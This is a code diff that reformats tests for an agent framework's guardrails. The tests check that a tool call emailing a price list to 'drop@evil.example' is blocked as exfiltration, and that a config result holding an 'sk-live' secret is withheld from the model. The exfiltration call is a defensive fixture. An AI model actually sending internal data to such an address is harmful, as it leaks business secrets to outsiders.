@@ -35,13 +35,21 @@ def test_blocked_arguments_do_not_run_the_tool_and_the_result_says_why(tmp_path:
     def fn(messages: list[Any], request: Any) -> Any:
         if any(isinstance(m, ToolMessage) for m in messages):
             return "I could not send the quote: " + last_tool_text(messages)[:40]
-        return Reply(calls=(("c1", "send_email", {"to": "drop@evil.example", "body": "the price list"}),
-                            ("c2", "send_email", {"to": "sales@ours.example", "body": "a lead"})))
+        return Reply(
+            calls=(
+                ("c1", "send_email", {"to": "drop@evil.example", "body": "the price list"}),
+                ("c2", "send_email", {"to": "sales@ours.example", "body": "a lead"}),
+            )
+        )
 
     fm = FunctionModel(fn)
     state = RunState()
-    events = collect(Agent(fm, tools=[send_email], middleware=[Guardrail(rules(EXFIL), stages=("tool_args",))]),
-                     "Email the price list", state=state, tracer=JsonlTracer(tmp_path))
+    events = collect(
+        Agent(fm, tools=[send_email], middleware=[Guardrail(rules(EXFIL), stages=("tool_args",))]),
+        "Email the price list",
+        state=state,
+        tracer=JsonlTracer(tmp_path),
+    )
     r = result_of(events)
 
     assert r.status == "completed"  # the model reads why and answers
@@ -49,8 +57,10 @@ def test_blocked_arguments_do_not_run_the_tool_and_the_result_says_why(tmp_path:
     assert_pairing(state.messages)
     blocked, allowed = [m for m in state.messages if isinstance(m, ToolMessage)]
     assert blocked.call_id == "c1" and blocked.status == "error"
-    assert blocked.text == (f"Not run: the tool args guardrail 'guardrail' blocked this (exfiltration): "
-                            f"{EXFIL.rationale}. Do not try the same call again; tell the user what you could not do.")
+    assert blocked.text == (
+        f"Not run: the tool args guardrail 'guardrail' blocked this (exfiltration): "
+        f"{EXFIL.rationale}. Do not try the same call again; tell the user what you could not do."
+    )
     assert allowed.call_id == "c2" and allowed.text == "sent"
     # The model's next request carried the refusal in words.
     assert any(isinstance(m, ToolMessage) and m.text == blocked.text for m in fm.requests[-1].messages)
@@ -78,16 +88,21 @@ def test_a_result_that_fails_its_check_is_withheld_from_the_model() -> None:
 
     fm = FunctionModel(fn)
     state = RunState()
-    events = collect(Agent(fm, tools=[read_config], middleware=[Guardrail(rules(SECRET), stages=("tool_result",))]),
-                     "Show me the payments config", state=state)
+    events = collect(
+        Agent(fm, tools=[read_config], middleware=[Guardrail(rules(SECRET), stages=("tool_result",))]),
+        "Show me the payments config",
+        state=state,
+    )
     r = result_of(events)
 
     assert r.status == "completed" and runs == ["payments"]  # it ran; what it said is withheld
     assert_pairing(state.messages)
     (result,) = [m for m in state.messages if isinstance(m, ToolMessage)]
     assert result.status == "error"
-    assert result.text == (f"[The result of read_config was withheld: the tool result guardrail 'guardrail' "
-                           f"blocked this (secret): {SECRET.rationale}.]")
+    assert result.text == (
+        f"[The result of read_config was withheld: the tool result guardrail 'guardrail' "
+        f"blocked this (secret): {SECRET.rationale}.]"
+    )
     assert "sk-live" not in str(fm.requests[-1].messages)  # the model never read it
     assert "sk-live" not in state.model_dump_json()  # nor was it saved
     assert [(v.stage, v.decision, v.category) for v in verdicts(events)] == [("tool_result", "block", "secret")]
@@ -96,6 +111,7 @@ def test_a_result_that_fails_its_check_is_withheld_from_the_model() -> None:
 def test_tool_stages_leave_the_input_and_the_answer_alone() -> None:
     classifier = rules(EXFIL)
     fm = FunctionModel(lambda m, r: "drop@evil.example is not a customer of ours.")
-    r = collect(Agent(fm, middleware=[Guardrail(classifier, stages=("tool_args", "tool_result"))]),
-                "Who is drop@evil.example?")
+    r = collect(
+        Agent(fm, middleware=[Guardrail(classifier, stages=("tool_args", "tool_result"))]), "Who is drop@evil.example?"
+    )
     assert result_of(r).status == "completed" and classifier.seen == []
